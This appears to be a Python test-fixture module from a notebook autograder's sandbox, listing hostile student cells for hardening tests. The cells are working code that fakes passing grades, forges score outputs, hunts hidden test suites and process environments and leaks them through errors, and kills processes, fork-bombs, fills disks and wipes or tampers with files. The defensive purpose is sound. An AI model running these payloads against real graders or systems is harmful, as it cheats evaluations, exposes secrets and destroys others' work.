"""The attack corpus: hostile code a student might put into a notebook.

Each :class:`Attack` adds cells to the reference ``02_tensors`` notebook (and may
replace solution cells, giving the "honest content" it is compared with).  The
attack must gain nothing, harm nothing and leave a clear reason where it broke
something of its own.  ``tests/test_hostile.py`` runs every attack against the
real engine.
"""

from __future__ import annotations

from dataclasses import dataclass, field

# A gram() that reports whatever an attack collected, through the one channel a
# student controls in the feedback: the message of an exception.
LEAK_THROUGH_ERRORS = '''
def gram(t):
    raise ValueError("collected: " + "\\n".join(str(item) for item in FOUND)[:20000])
'''
HONEST_RAISING_GRAM = {"gram": 'def gram(t):\n    raise ValueError("collected: nothing")\n'}
WRONG_GRAM = {"gram": "def gram(t):\n    return t.T @ t\n"}



KILL_EVERY_PID = """
def _act(spared):
    # Every pid handed out so far, listed or not (a process that is not dumpable hides from /proc).
    try:
        last = int(open("/proc/sys/kernel/ns_last_pid").read())
    except (OSError, ValueError):
        last = 1 << 15
    for pid in range(2, last + 256):
        if pid not in spared:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
"""

LOCK_AND_OVERWRITE = """
def _act(spared):
    places = glob.glob("/tmp/*") + glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root/tmp")
    for place in places:
        for path in [place] + glob.glob(os.path.join(place, "**"), recursive=True)[:200]:
            try:
                if os.path.isdir(path):
                    os.chmod(path, 0o500)
                elif path.endswith((".pth", ".pt", ".ipynb")):
                    open(path, "wb").write(b"tampered")
            except OSError:
                pass
"""


def self_repairing(*, name: str, seconds: int, action: str = KILL_EVERY_PID) -> str:
    """Cell source: a detached chain (double fork, setsid) that runs ``action``'s ``_act`` every 20 ms.

    Each link keeps a standby child that takes over when the link is killed, so a
    clean-up that kills the processes it finds once always misses the standby. The
    processes are named ``name`` (at most 15 characters), so a test can look for them.
    """
    return f"""
import ctypes, glob, os, signal, time
{action}
def _chain(until):
    ctypes.CDLL(None).prctl(15, {name.encode()!r}, 0, 0, 0)
    while time.time() < until:
        me = os.getpid()
        try:
            standby = os.fork()
        except OSError:
            standby = -1
        if standby == 0:  # wait for the link above to be killed, then take its place
            while os.getppid() == me and time.time() < until:
                time.sleep(0.005)
            continue
        while time.time() < until:
            _act({{me, standby, 1}})
            time.sleep(0.02)
            if standby > 0 and os.waitpid(standby, os.WNOHANG)[0]:
                break  # the standby died: make another
    os._exit(0)

if os.fork() == 0:
    try:
        os.setsid()  # refused in notebook processes (CPU fairness): the chain detaches all the same
    except PermissionError:
        pass
    if os.fork() == 0:
        _chain(time.time() + {seconds})
    os._exit(0)
"""


# Files just under the size limit in every writable temporary place, until it is full.
FILL_SCRATCH = """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", os.getcwd()):
    for index in range(64):
        try:
            with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as handle:
                for _ in range(255):
                    handle.write(bytes(1 << 20))
        except OSError:
            break
"""

@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    cells: tuple[str, ...]                         # appended code cells
    honest: dict[str, str] = field(default_factory=dict)  # what the notebook deserves to be graded as
    reason: str = ""                               # a fragment the notebook's problems must contain
    needs_root: bool = False                       # holds only with a sandbox user and namespaces


ATTACKS = (
    Attack(
        "patch_comparisons", "patches torch.equal / allclose / assert_close, numpy.testing, unittest, builtins",
        ("""
import builtins, unittest, numpy.testing, torch, torch.testing
torch.testing.assert_close = lambda *a, **k: None
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
numpy.testing.assert_allclose = lambda *a, **k: None
unittest.TestCase.assertEqual = lambda *a, **k: None
builtins.abs = lambda value: 0
""",),
        honest=WRONG_GRAM,
    ),
    Attack(
        "fake_modules", "fake autograder/pytest/nbgrader modules, conftest.py, sitecustomize.py, autograder.py",
        ("""
import os, sys, types
for name in ("autograder", "autograder.grading", "autograder.grading.judge", "pytest", "nbgrader"):
    sys.modules[name] = types.ModuleType(name)
for name in ("conftest.py", "sitecustomize.py", "autograder.py", "pytest.py"):
    with open(name, "w") as handle:
        handle.write("import os\\nos.environ['SCORE'] = '100'\\ndef pytest_runtest_makereport(): pass\\n")
sys.path.insert(0, os.getcwd())
""",),
        honest=WRONG_GRAM,
    ),
    Attack(
        "fake_scores", "prints and writes score-like output, workflow commands and GITHUB_* files",
        ("""
import json, os
print(100)
print("::notice::Points 100/100")
print("::stop-commands::x")
print('{"score": 100, "tests": []}')
json.dump({"score": 100}, open("results.json", "w"))
open("grades.csv", "w").write("student,total\\nme,100\\n")
for name in ("GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY", "GITHUB_ENV"):
    target = os.environ.get(name, f"/tmp/{name.lower()}")
    try:
        open(target, "a").write("score=100\\n")
    except OSError:
        pass
for target in (f"/proc/{os.getppid()}/cwd/results.json", "/github/workflow/event.json"):
    try:
        open(target, "w").write('{"score": 100}')
    except OSError:
        pass
""",),
        honest=WRONG_GRAM,
    ),
    Attack(
        "ipython_tricks", "ast_node_interactivity, sys.displayhook, showtraceback",
        ("get_ipython().ast_node_interactivity = 'none'",
         "import sys\nsys.displayhook = lambda value: None\nsys.excepthook = lambda *a: None",
         "from IPython.core.interactiveshell import InteractiveShell\n"
         "InteractiveShell.showtraceback = lambda *a, **k: None"),
        honest=WRONG_GRAM,
        reason="NameError",
    ),
    Attack(
        "walk_disk", "walks the disk for hidden suites, references and solutions and leaks them in an error",
        ("""
import os, time
FOUND = []
deadline = time.monotonic() + 8
for root in ("/work", "/tmp", "/root", "/home", "/opt", "/srv", "/var/lib", "/usr/local"):
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in ("site-packages", "proc", "sys", ".git")]
        for name in files:
            if (name.startswith("test_") and name.endswith(".py")) or "reference" in name or \\
                    name.endswith(".ipynb"):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read()
                except OSError:
                    continue
                if "BEGIN SOLUTION" in text or "mark.grade" in text or "expect_tensor" in text:
                    FOUND.append(text)
        if time.monotonic() > deadline:
            break
""", LEAK_THROUGH_ERRORS),
        honest=HONEST_RAISING_GRAM,
        needs_root=True,
    ),
    Attack(
        "walk_memory", "walks gc.get_objects(), sys.modules and frames for anything the grader loaded",
        ("""
import gc, sys
FOUND = [name for name in sys.modules if "hidden" in name or "reference" in name or name.startswith("test_")]
for obj in gc.get_objects():
    try:
        if isinstance(obj, dict):
            values = [v for v in obj.values() if isinstance(v, str)]
        elif isinstance(obj, (list, tuple)):
            values = [v for v in obj if isinstance(v, str)]
        else:
            continue
    except Exception:
        continue
    FOUND += [v for v in values if "expect_tensor" in v or "mark.grade" in v or "BEGIN SOLUTION" in v]
for frame in sys._current_frames().values():
    while frame is not None:
        FOUND.append(frame.f_code.co_filename)
        frame = frame.f_back
FOUND = [item for item in FOUND if "hidden" in item or "test_0" in item or "SOLUTION" in item]
""", LEAK_THROUGH_ERRORS),
        honest=HONEST_RAISING_GRAM,
    ),
    Attack(
        "read_environment", "reads os.environ, /proc/<ppid>/environ and /proc/<ppid>/cmdline of every process",
        ("""
import os
FOUND = [f"{k}={v}" for k, v in os.environ.items()]
for pid in [str(os.getppid()), "1"] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for part in ("environ", "cmdline"):
        try:
            FOUND.append(open(f"/proc/{pid}/{part}", "rb").read().decode(errors="replace"))
        except OSError:
            pass
""", LEAK_THROUGH_ERRORS),
        honest=HONEST_RAISING_GRAM,
        needs_root=True,
    ),
    Attack(
        "modify_grader", "rewrites the installed grader package, the suites and any gradebook it can find",
        ("""
import glob, os
import autograder
targets = glob.glob(os.path.join(os.path.dirname(autograder.__file__), "**", "*.py"), recursive=True)
targets += glob.glob("/work/**/gradebook.db", recursive=True) + glob.glob("/tmp/**/*.db", recursive=True)
targets += glob.glob(f"/proc/{os.getppid()}/cwd/*")
for path in targets:
    try:
        with open(path, "a") as handle:
            handle.write("\\nSCORE = 100\\n")
    except OSError:
        pass
    try:
        os.remove(path)
    except OSError:
        pass
""",),
        honest=WRONG_GRAM,
        needs_root=True,
    ),
    Attack(
        "signal_parent", "sends SIGTERM and SIGKILL to its parent and to every process it can see",
        ("""
import os, signal
for pid in [os.getppid()] + [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid in (os.getpid(), 1):
        continue
    for sig in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
""",),
        needs_root=True,
    ),
    Attack("sys_exit", "calls sys.exit() in a cell", ("import sys\nsys.exit(0)",), reason="sys.exit"),
    Attack("os_exit", "calls os._exit() in a cell", ("import os\nos._exit(0)",), reason="exited with status 0"),
    Attack("busy_loop", "loops forever", ("while True:\n    pass",), reason="time limit"),
    Attack("long_sleep", "sleeps for days, ignoring the interrupt",
           ("import signal, time\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\ntime.sleep(10**6)",),
           reason="was stopped"),
    Attack("memory_bomb", "allocates until it is stopped",
           ("hog = []\nwhile True:\n    hog.append(bytearray(64 << 20))",), reason="memory limit"),
    Attack("fork_bomb", "forks as many sleeping processes as it can, some detached",
           ("""
import os, time
for index in range(100000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        if index % 2:
            try:
                os.setsid()
            except PermissionError:
                pass
        time.sleep(1000)
        os._exit(0)
""",), needs_root=True),
    Attack("detached_killer",
           "a detached, self-repairing process chain that SIGKILLs every process it may signal, for half a minute",
           (self_repairing(name="killer", seconds=30) + "\ntime.sleep(0.5)\n",), needs_root=True),
    Attack("fill_scratch",
           "fills its working directory, /tmp, /var/tmp and /dev/shm with files just under the size limit",
           (FILL_SCRATCH,), needs_root=True),
    Attack("tamper_neighbours",
           "a detached, self-repairing process chain that locks other notebooks' folders and overwrites every "
           ".pth and notebook it finds, for half a minute",
           (self_repairing(name="tamperer", seconds=30, action=LOCK_AND_OVERWRITE) + "\ntime.sleep(0.5)\n",),
           needs_root=True),
    Attack("walk_everything", "walks the whole visible file system for copies of the suites and solutions",
           ("""
import os, time
FOUND = []
deadline = time.monotonic() + 10
for folder, dirs, files in os.walk("/"):
    if folder == "/":
        dirs[:] = [d for d in dirs if d not in ("proc", "sys")]
    for name in files:
        if not name.endswith((".py", ".ipynb", ".txt", ".md")):
            continue
        try:
            text = open(os.path.join(folder, name), errors="replace").read(200_000)
        except OSError:
            continue
        if "BEGIN SOLUTION" in text or "mark.grade" in text or "expect_tensor" in text:
            FOUND.append(os.path.join(folder, name) + "\n" + text)
    if time.monotonic() > deadline:
        break
""", LEAK_THROUGH_ERRORS),
           honest=HONEST_RAISING_GRAM, needs_root=True),
    Attack("flood_output", "prints 50 MB, through print and straight to the file descriptor",
           ("print('x' * (50 << 20))\nimport os\nos.write(1, b'y' * (50 << 20))",)),
    Attack("wipe_workdir", "deletes every file in its working directory and moves to /",
           ("import os, shutil\nfor name in os.listdir('.'):\n    shutil.rmtree(name, ignore_errors=True)\n"
            "    try:\n        os.remove(name)\n    except OSError:\n        pass\nos.chdir('/')",)),
)
